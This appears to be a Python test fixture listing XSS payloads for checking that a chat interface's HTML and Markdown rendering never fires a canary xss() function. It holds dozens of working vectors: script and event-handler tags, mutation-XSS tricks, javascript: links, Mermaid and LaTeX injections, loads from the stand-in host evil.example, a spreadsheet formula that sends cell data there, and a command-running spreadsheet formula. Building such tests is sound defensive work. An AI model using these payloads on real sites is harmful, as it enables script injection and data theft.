"""What could become alive on a page that shows it unescaped, each by the trick that it plays.

`xss()` is the canary: the page's tests define it and see that nobody calls it. `evil.example` is the world outside.
What a payload would make carries `pwned` in its id, name or class.
"""

from __future__ import annotations

BAD = "<img id=pwned src=x onerror=xss()>"
OUT = "https://evil.example"

HTML = {
    "script": "<script id=pwned>xss()</script>",
    "script from outside": f"<script id=pwned src={OUT}/a.js></script>",
    "image that fails": BAD,
    "image from outside": f'<img id=pwned src="{OUT}/b.png">',
    "image by srcset": f'<img id=pwned srcset="{OUT}/c.png 1x, {OUT}/d.png 2x">',
    "svg onload": "<svg id=pwned onload=xss()></svg>",
    "svg with a script": "<svg id=pwned><script>xss()</script></svg>",
    "svg animation": "<svg id=pwned><animate onbegin=xss() attributeName=x dur=1s></animate></svg>",
    "svg image": f"<svg id=pwned><image href={OUT}/e.png></image><use href={OUT}/f.svg#a></use></svg>",
    "math link": "<math id=pwned><maction actiontype=statusline xlink:href=javascript:xss()>x</maction></math>",
    "mutation by math": f'<math id=pwned><mtext><table><mglyph><style><!--</style><img title="--&gt;{BAD}">',
    "mutation by noscript": f'<noscript><p id=pwned title="</noscript>{BAD}">',
    "mutation by svg style": f'<svg id=pwned></p><style><a id="</style>{BAD}">',
    "frame with a document": f'<iframe id=pwned srcdoc="{BAD.replace("xss", "parent.xss")}"></iframe>',
    "frame with a script": "<iframe id=pwned src=javascript:parent.xss()></iframe>",
    "object": "<object id=pwned data=data:text/html,<script>parent.xss()</script>></object>",
    "embed": f"<embed id=pwned src={OUT}/g.swf>",
    "meta refresh": f'<meta id=pwned http-equiv=refresh content="0;url={OUT}/h">',
    "base": f"<base id=pwned href={OUT}/>",
    "form": f"<form id=pwned action={OUT}/i><button formaction=javascript:xss()>Start</button></form>",
    "focus": "<input id=pwned autofocus onfocus=xss()>",
    "details": "<details id=pwned open ontoggle=xss()>x</details>",
    "video": "<video id=pwned poster=https://evil.example/j.png><source onerror=xss() src=x></video>",
    "audio": "<audio id=pwned src=x onerror=xss() autoplay></audio>",
    "body": "<body id=pwned onload=xss() background=https://evil.example/k.png>",
    "marquee": "<marquee id=pwned onstart=xss()>x</marquee>",
    "style import": f"<style id=pwned>@import '{OUT}/l.css'; *{{background:url({OUT}/m.png)}}</style>",
    "style attribute": f'<div id=pwned style="background:url({OUT}/n.png);width:expression(xss())">x</div>',
    "stylesheet": f"<link id=pwned rel=stylesheet href={OUT}/o.css>",
    "preload": f"<link id=pwned rel=preload as=image href={OUT}/p.png>",
    "script link": "<a id=pwned href=javascript:xss()>press</a>",
    "script link with a tab": "<a id=pwned href='java\tscript:xss()'>press</a>",
    "data link": "<a id=pwned href='data:text/html,<script>xss()</script>'>press</a>",
    "shadow root": f"<div id=pwned><template shadowrootmode=open>{BAD}</template></div>",
    "clobbered names": "<form id=pwned name=props><input name=element id=trigger></form><a id=__xss></a>",
    "component of Gradio": f"<gradio-app id=pwned src={OUT}></gradio-app>",
    "end of a double-quoted attribute": f'">{BAD}',
    "end of a single-quoted attribute": f"'>{BAD}",
    "one more attribute": '" autofocus onfocus="xss()" onmouseover="xss()" id="pwned',
    "one more attribute, unquoted": " autofocus onfocus=xss() onmouseover=xss() id=pwned ",
    "end of a text element": f"</textarea></title></style></script></xmp></noscript>{BAD}",
    "end of a table": f"</pre></code></td></tr></table></details>{BAD}",
    "end of a comment": f"<!--><!-- rows -->-->--!>{BAD}<!-- how new it is -->",
    "cdata": f"<![CDATA[><svg><![CDATA[><image id=pwned href={OUT}/q.png>]]>{BAD}",
    "cut off": "<img id=pwned src=x onerror=xss() ",
    "slashes for blanks": "<svg/id=pwned/onload=xss()//",
    "entities": "&lt;img id=pwned src=x onerror=xss()&gt; &#60;img id=pwned src=x onerror=xss()&#62;",
    "right to left": f"\u202e\u2066{BAD}\u2069\u202c",
    "look-alikes": "\uff1cscript id=pwned\uff1exss()\uff1c/script\uff1e \u2028<\u200bscript>xss()</script>",
    "template literal": "${xss()} ${this.constructor.constructor('xss()')()}",
    "end of a template literal": "`+xss()+` \\`;xss();` ${`${xss()}`}",
    "handlebars": '{{xss}} {{{constructor.constructor "xss()"}}} {{#with "s" as |s|}}{{lookup . "at"}}{{/with}}',
    "children's place": f"@children {BAD} @children",
    "formula of a spreadsheet": f'=HYPERLINK("{OUT}/r?"&A1,"press")',
    "command of a spreadsheet": "@SUM(1+1)*cmd|' /C calc'!A0",
}

# Those that are alive only where a template or a spreadsheet reads them.
NO_HTML = (
    "entities",
    "look-alikes",
    "template literal",
    "end of a template literal",
    "handlebars",
    "formula of a spreadsheet",
    "command of a spreadsheet",
)

MARKDOWN = {
    "picture": f"![pwned]({OUT}/1.png)",
    "picture by reference": f"![pwned][here]\n\n[here]: {OUT}/2.png",
    "picture in a link": f"[![pwned]({OUT}/3.png)](javascript:xss())",
    "picture after an escaped tick": f"\\`![pwned]({OUT}/4.png)\\`",
    "script link in Markdown": "[pwned](javascript:xss()) [pwned](java&#115;cript:xss()) [pwned](<javascript:xss()>)",
    "data link in Markdown": "[pwned](data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==)",
    "autolinks": f'<javascript:xss()> <{OUT}/?<b>> vbscript:xss() <mailto:a@b.c?x="onload=xss()>',
    "title of a link": f'[pwned]({OUT} "{BAD}") [pwned](x\'onclick=xss()//)',
    "fence": f"```html\n{BAD}\n```",
    "fence with hostile language": f'```"><svg/id=pwned/onload=xss()>\n{BAD}\n```',
    "fence that is left open": f"```\n{BAD}",
    "fence closed by other marks": f"```\n```~~~\n{BAD}\n```",
    "fence in a list": f"- a\n\n  ```\n{BAD}\n  ```\n\n1. b\n   ```\n{BAD}\n   ```",
    "fence in a quote": f"> ```\n{BAD}\n> ```\n{BAD}",
    "fence within a fence": f"````\n```\n{BAD}\n````\n~~~\n```\n~~~\n{BAD}\n```",
    "fence within a link's title": f'[a]: b "\n```\n"\n{BAD}\n```',
    "fence within a formula": f"$$\n```\n$$\n{BAD}\n```",
    "fence by carriage returns": f"a\r```\r{BAD}\r```\r{BAD}",
    "code": f"`{BAD}` ``{BAD}`` ```{BAD}```",
    "code after an escaped tick": f"\\`{BAD}\\`",
    "code of unlike ticks": f"``{BAD}` `{BAD}``",
    "code over two lines": f"`\n`{BAD}`",
    "code in a table": f"| a | b |\n|---|---|\n| `{BAD} | ` |",
    "formula in code": f"`$$ {BAD} $$`",
    "formula": f"$$ {BAD} $$ $${BAD}$$",
    "formula that links": "$$\\href{javascript:xss()}{pwned} \\url{javascript:xss()}$$",
    "formula with data": f"$$\\htmlData{{pwned=1}}{{x}} \\htmlId{{pwned}}{{x}} \\includegraphics{{{OUT}/5.png}}$$",
    "formula's place": f"%%%LATEX_BLOCK_0%%% $$a$$ %%%LATEX_BLOCK_1%%% {BAD}",
    "drawing": f"```mermaid\n{BAD}\n```",
    "drawing with a label": f'```mermaid\nflowchart LR\n  A["<img id=pwned src={OUT}/6.png>"] --> B\n```',
    "drawing that links": '```mermaid\nflowchart LR\n  A-->B\n  click A href "javascript:xss()"\n  click B call xss()',
    "drawing that is set up": '```mermaid\n%%{init: {"securityLevel": "loose"}}%%\npie\n "<img id=pwned>": 1\n```',
    "thought": f"<think>{BAD}```</think>```\n{BAD}\n```",
    "heading": f"# pwned {BAD}\n\npwned {BAD}\n===\n\n<h1 id=pwned>x</h1>",
    "block of HTML": f"<div id=pwned>\n\n{BAD}\n\n</div>\n\n<details id=pwned open ontoggle=xss()>\n\n{BAD}",
    "escapes": f"\\<img id=pwned src=x onerror=xss()\\> \\\\{BAD}",
}

PAYLOADS = {**HTML, **MARKDOWN}
# In the default run: one of each kind, and all that has ever come through.
SAMPLE = (
    "script",
    "image that fails",
    "end of a double-quoted attribute",
    "one more attribute",
    "template literal",
    "handlebars",
    "picture",
    "code after an escaped tick",
    "code over two lines",
    "formula in code",
    "fence in a list",
    "fence within a link's title",
    "drawing",
    "drawing with a label",
)


def as_file_name(payload: str) -> str:
    """The payload as far as it can be the name of a file."""
    return payload.replace("/", "\u2215").replace("\0", "").replace("\n", " ").replace("\r", " ")[:60].strip(". ")


def moments(payloads: dict[str, str]) -> list[str]:
    """How far each of them has come on its way as a reply, as soon as there is something in it, and in the end."""
    parts = [text[:end] for text in payloads.values() for end in (*range(4, len(text), 5), len(text))]
    return [part for part in parts if "<" in part or "[" in part or part in payloads.values()]
